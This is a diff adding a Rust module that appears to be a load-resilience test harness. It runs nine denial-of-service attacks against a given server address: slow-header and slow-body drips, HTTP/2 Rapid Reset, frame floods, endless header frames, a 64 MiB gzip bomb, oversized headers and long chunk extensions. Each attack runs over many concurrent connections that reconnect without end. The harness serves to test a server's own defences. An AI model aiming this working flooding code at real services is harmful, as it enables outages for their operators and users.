@@ -1,0 +1,169 @@
+//! What attackers do, each for as long as it is polled.
+
+use std::io::Read;
+use std::net::SocketAddr;
+use std::sync::LazyLock;
+use std::time::Duration;
+
+use flate2::Compression;
+use flate2::read::GzEncoder;
+use futures::future::join_all;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::time::sleep;
+
+/// The list of reliability 3.1, as far as it is about this door.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Attack {
+    /// Connections that say nothing, more than there are places.
+    Silent,
+    /// Heads that come a byte at a time.
+    SlowHeads,
+    /// Bodies that come a byte at a time.
+    SlowBodies,
+    /// HTTP/2 streams that are opened and reset at once.
+    RapidReset,
+    /// HTTP/2 pings and settings without end.
+    Frames,
+    /// HTTP/2 heads that never end.
+    EndlessHead,
+    /// gzip that inflates a thousandfold.
+    Bombs,
+    /// Heads and addresses above every limit.
+    LargeHeads,
+    /// Chunks with extensions longer than the data.
+    ChunkExtensions,
+}
+
+pub const ALL: [Attack; 9] = [
+    Attack::Silent,
+    Attack::SlowHeads,
+    Attack::SlowBodies,
+    Attack::RapidReset,
+    Attack::Frames,
+    Attack::EndlessHead,
+    Attack::Bombs,
+    Attack::LargeHeads,
+    Attack::ChunkExtensions,
+];
+
+const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+/// 64 MiB of one letter.
+static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    let mut bomb = Vec::new();
+    let letters = std::io::repeat(b'a').take(64 << 20);
+    GzEncoder::new(letters, Compression::best()).read_to_end(&mut bomb).unwrap();
+    bomb
+});
+const BODY_HEAD: &str = "POST /v1/cmcd?k=demo HTTP/1.1\r\nhost: x\r\n";
+
+/// Attacks until it is dropped.
+pub async fn run(attack: Attack, addr: SocketAddr) {
+    let crowd = match attack {
+        Attack::Silent => 400,
+        Attack::SlowHeads | Attack::SlowBodies => 200,
+        _ => 4,
+    };
+    join_all((0..crowd).map(|_| one(attack, addr))).await;
+}
+
+async fn one(attack: Attack, addr: SocketAddr) {
+    loop {
+        if let Ok(mut stream) = TcpStream::connect(addr).await {
+            let _ = once(attack, &mut stream).await;
+        }
+        // Cut, and back again a moment later.
+        sleep(Duration::from_millis(if attack == Attack::Silent { 3_000 } else { 50 })).await;
+    }
+}
+
+async fn once(attack: Attack, stream: &mut TcpStream) -> std::io::Result<()> {
+    match attack {
+        Attack::Silent => drop(stream.read_u8().await),
+        Attack::SlowHeads => drip(stream, b"GET /healthz HTTP/1.1\r\nx: ").await?,
+        Attack::SlowBodies => {
+            drip(stream, format!("{BODY_HEAD}content-length: 9999\r\n\r\n").as_bytes()).await?;
+        }
+        Attack::RapidReset => {
+            stream.write_all(GREETING).await?;
+            for number in (1_u32..20_000).step_by(2) {
+                stream
+                    .write_all(&[get(number), frame(3, 0, number, &[0, 0, 0, 8])].concat())
+                    .await?;
+            }
+        }
+        Attack::Frames => {
+            stream.write_all(GREETING).await?;
+            let frames = [frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, &[])].concat().repeat(64);
+            loop {
+                stream.write_all(&frames).await?;
+            }
+        }
+        Attack::EndlessHead => {
+            stream.write_all(GREETING).await?;
+            stream.write_all(&frame(1, 0, 1, b"\x82\x86\x84")).await?;
+            loop {
+                stream.write_all(&frame(9, 0, 1, &b"\x40\x01a\x01b".repeat(1_000))).await?;
+            }
+        }
+        Attack::Bombs => {
+            let bomb = &*BOMB;
+            let head = format!(
+                "{BODY_HEAD}content-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
+                bomb.len()
+            );
+            for _ in 0..50 {
+                stream.write_all(head.as_bytes()).await?;
+                stream.write_all(bomb).await?;
+                answer(stream).await?;
+            }
+        }
+        Attack::LargeHeads => {
+            let long = "a".repeat(70_000);
+            stream
+                .write_all(format!("GET /?{long} HTTP/1.1\r\nx: {long}\r\n\r\n").as_bytes())
+                .await?;
+            answer(stream).await?;
+        }
+        Attack::ChunkExtensions => {
+            stream
+                .write_all(format!("{BODY_HEAD}transfer-encoding: chunked\r\n\r\n").as_bytes())
+                .await?;
+            loop {
+                stream.write_all(format!("1;{}\r\na\r\n", "x".repeat(1_000)).as_bytes()).await?;
+            }
+        }
+    }
+    Ok(())
+}
+
+/// A beginning, and a byte ten times a second.
+async fn drip(stream: &mut TcpStream, begin: &[u8]) -> std::io::Result<()> {
+    stream.write_all(begin).await?;
+    loop {
+        sleep(Duration::from_millis(100)).await;
+        stream.write_all(b"a").await?;
+    }
+}
+
+/// Reads what comes, once.
+async fn answer(stream: &mut TcpStream) -> std::io::Result<()> {
+    match stream.read(&mut [0; 4_096]).await? {
+        0 => Err(std::io::ErrorKind::UnexpectedEof.into()),
+        _ => Ok(()),
+    }
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = payload.len() as u32;
+    let mut frame = length.to_be_bytes()[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// HEADERS, ended: GET, http, the authority x, and `/healthz`.
+fn get(stream: u32) -> Vec<u8> {
+    frame(1, 5, stream, b"\x82\x86\x41\x01x\x04\x08/healthz")
+}
